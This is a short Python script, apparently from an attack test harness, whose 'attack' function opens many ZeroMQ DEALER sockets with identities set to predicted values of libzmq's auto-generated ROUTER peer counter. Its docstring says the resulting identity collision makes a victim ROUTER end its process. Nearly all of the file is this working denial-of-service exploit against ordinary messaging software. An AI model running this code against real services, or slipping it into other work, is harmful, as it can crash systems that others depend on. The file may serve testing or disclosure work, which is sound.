"""Clients that call themselves what libzmq would call the next one: with a ROUTER that ends the process."""

from __future__ import annotations

import asyncio
import struct
import sys
import time

import stage
import zmq
import zmq.asyncio

STARTS = (0x6B8B4567, 0xE43C9869)
"""What the counter of a process's first ROUTER begins with, with one that was made before it or not."""


async def attack(address: str, until: float) -> None:
    with zmq.asyncio.Context() as context:
        first = 0
        while time.monotonic() < until:
            dealers = []
            for number in range(first, first + 64):
                for start in STARTS:
                    dealer = context.socket(zmq.DEALER)
                    dealer.linger = 0
                    dealer.setsockopt(zmq.IDENTITY, b"\0" + struct.pack(">I", (start + number) % 2**32))
                    dealer.connect(address)
                    await dealer.send(b"x")
                    dealers.append(dealer)
            first = (first + 64) % 512
            await asyncio.sleep(0.2)
            for dealer in dealers:
                dealer.close()


if __name__ == "__main__":
    sys.exit(stage.main(attack, transport="zmq"))
